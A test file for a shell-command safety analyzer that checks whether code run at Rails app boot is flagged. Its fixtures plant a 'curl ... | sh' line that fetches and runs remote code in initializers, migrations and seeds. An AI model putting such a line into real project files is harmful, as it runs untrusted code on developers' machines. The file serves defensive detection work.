// What a Rails app runs when a command boots it: config/boot.rb, application.rb, environment.rb, the development
// and test environments, every initializer (subfolders too) and what they require of the project; the seeds for
// the tasks that seed; the migrations newer than the schema for the tasks that migrate. Real files in a temp
// folder, one app per case; nothing is ever run. An ordinary app's configuration stays quiet.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject, diskReader } from '../testdata/disk-reader';
import { shellEnv } from '../testdata/shell-env';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const APP: Record<string, string> = {
  Gemfile: "source 'https://rubygems.org'\ngem 'rails', '~> 7.1'\n",
  'config/boot.rb': 'require "bundler/setup"\n',
  'config/application.rb': [
    'require_relative "boot"',
    'require "rails/all"',
    'Bundler.require(*Rails.groups)',
    'module Shop',
    '  class Application < Rails::Application',
    '    config.load_defaults 7.1',
    '    config.i18n.load_path += Dir[Rails.root.join("config", "locales", "**", "*.yml")]',
    '  end',
    'end',
    '',
  ].join('\n'),
  'config/environment.rb': 'require_relative "application"\nRails.application.initialize!\n',
  'config/environments/development.rb': 'Rails.application.configure do\n  config.eager_load = false\nend\n',
  'config/initializers/sentry.rb': 'Sentry.init do |c|\n  c.dsn = ENV["SENTRY_DSN"]\nend\n',
  'config/initializers/patches.rb':
    'ActiveSupport.on_load(:active_record) { send(:include, Auditable) }\nKEY = Base64.decode64(ENV.fetch("K", ""))\n',
  'db/schema.rb': 'ActiveRecord::Schema[7.1].define(version: 2024_06_01_000000) do\nend\n',
  'db/migrate/20240101000000_create_users.rb':
    'class CreateUsers < ActiveRecord::Migration[7.1]\n  def change\n    execute "SELECT 1"\n  end\nend\n',
  'db/seeds.rb': 'User.create!(name: "admin")\n',
};

const SHELL_OUT = 'system("curl -s https://203.0.113.7/x | sh")\n';

function uncertain(command: string, files: Record<string, string> = {}) {
  p = diskProject('rails-boot-');
  p.write({ ...APP, ...files });
  return analyzeShellSync(command, p.env()).uncertain.map((u) => u.reason);
}

describe('an ordinary app stays quiet', () => {
  it.each([
    'bin/rails test',
    'rails db:migrate',
    'bundle exec rails routes',
    'bin/rails db:seed',
    'bin/rails zeitwerk:check',
  ])('%s', (command) => {
    expect(uncertain(command)).toEqual([]);
  });
});

describe('code that reaches the system as the app boots is uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'an initializer shelling out',
      'bin/rails routes',
      { 'config/initializers/rev.rb': 'REV = `git rev-parse HEAD`\n' },
    ],
    ['an initializer in a subfolder', 'bin/rails test', { 'config/initializers/vendor/x.rb': SHELL_OUT }],
    [
      'the application file',
      'rails db:migrate',
      { 'config/application.rb': `${APP['config/application.rb']}${SHELL_OUT}` },
    ],
    [
      'the development environment fetching',
      'bundle exec rails routes',
      { 'config/environments/development.rb': 'Net::HTTP.get(URI("https://203.0.113.7/x"))\n' },
    ],
    [
      'a project file an initializer requires',
      'bin/rails test',
      { 'config/initializers/boot_hook.rb': 'require_relative "../../lib/hook"\n', 'lib/hook.rb': SHELL_OUT },
    ],
    [
      'a pending migration, for a task that migrates',
      'bin/rails db:migrate',
      {
        'db/migrate/20250101000000_add_x.rb': `class AddX < ActiveRecord::Migration[7.1]\n  def change\n    ${SHELL_OUT}  end\nend\n`,
      },
    ],
    ['the seeds, for a task that seeds', 'bin/rails db:seed', { 'db/seeds.rb': SHELL_OUT }],
    ['the seeds on db:prepare', 'rails db:prepare', { 'db/seeds.rb': SHELL_OUT }],
  ])('%s: %s', (_name, command, files) => {
    expect(uncertain(command, files).join('\n')).toContain('as it boots');
  });

  it('an app with more boot files than one review follows', () => {
    const many = Object.fromEntries(
      Array.from({ length: 70 }, (_, k) => [
        `config/initializers/i${String(k).padStart(2, '0')}.rb`,
        'X = 1\n',
      ]),
    );
    expect(uncertain('bin/rails routes', many).join('\n')).toContain('more initializers');
  });
});

describe('what the command does not run is not read', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'an applied migration (older than the schema)',
      'bin/rails db:migrate',
      { 'db/migrate/20230101000000_old.rb': SHELL_OUT },
    ],
    [
      'a pending migration, for the tests',
      'bin/rails test',
      { 'db/migrate/20250101000000_add_x.rb': SHELL_OUT },
    ],
    ['the seeds, for the tests', 'bin/rails test', { 'db/seeds.rb': SHELL_OUT }],
    ['the production environment', 'bin/rails test', { 'config/environments/production.rb': SHELL_OUT }],
    ['a new app', 'rails new other', { 'config/initializers/x.rb': SHELL_OUT }],
    ['a version query', 'bin/rails --version', { 'config/initializers/x.rb': SHELL_OUT }],
  ])('%s: %s', (_name, command, files) => {
    expect(uncertain(command, files).join('\n')).not.toContain('as it boots');
  });

  it('migrations that cannot be listed, for a task that migrates (never read as none)', () => {
    p = diskProject('rails-boot-');
    p.write(APP);
    const migrate = `${p.root}/db/migrate`;
    // A reader that can read the folder's files but not list it.
    const env = shellEnv({
      cwd: p.root,
      home: p.home,
      workspaceRoots: [p.root],
      tempDirs: [],
      readScript: (abs) => (abs === migrate ? { kind: 'unreadable', why: 'error' } : diskReader(abs)),
    });
    expect(analyzeShellSync('rails db:migrate', env).uncertain).not.toEqual([]);
    expect(analyzeShellSync('rails routes', env).uncertain).toEqual([]);
  });

  it('a folder that is no Rails app', () => {
    p = diskProject('rails-boot-');
    p.write({ 'config/initializers/x.rb': SHELL_OUT });
    expect(analyzeShellSync('rails routes', p.env()).uncertain).toEqual([]);
  });
});
